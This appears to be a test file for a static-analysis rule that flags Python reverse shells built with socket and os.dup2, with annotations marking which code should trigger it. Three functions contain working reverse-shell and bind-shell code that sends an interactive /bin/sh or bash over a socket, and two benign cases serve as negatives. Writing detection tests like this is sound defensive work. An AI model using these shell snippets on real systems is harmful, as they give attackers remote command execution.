import os
import socket
import subprocess
import sys


def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    # ruleid: python-reverse-shell-socket-dup2
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])


def connect_back_create(host, port):
    sock = socket.create_connection((host, port))
    # ruleid: python-reverse-shell-socket-dup2
    os.dup2(sock.fileno(), sys.stdin.fileno())
    os.dup2(sock.fileno(), sys.stdout.fileno())
    os.execv("/bin/bash", ["bash", "-i"])


def bind_shell(port):
    server = socket.socket()
    server.bind(("0.0.0.0", port))
    server.listen(1)
    conn, addr = server.accept()
    for fd in (1, 2):
        os.dup2(conn.fileno(), fd)
    # ruleid: python-reverse-shell-socket-dup2
    os.dup2(conn.fileno(), 0)
    os.system("/bin/sh")


def daemonize(logfile):
    # Classic double-fork daemon: stdin goes to /dev/null, not to a socket.
    devnull = open(os.devnull, "rb")
    log = open(logfile, "ab")
    # ok: python-reverse-shell-socket-dup2
    os.dup2(devnull.fileno(), 0)
    # ok: python-reverse-shell-socket-dup2
    os.dup2(log.fileno(), sys.stdout.fileno())


def echo_server(port):
    server = socket.socket()
    server.bind(("127.0.0.1", port))
    server.listen()
    conn, addr = server.accept()
    data = conn.recv(1024)
    # ok: python-reverse-shell-socket-dup2
    conn.sendall(data)
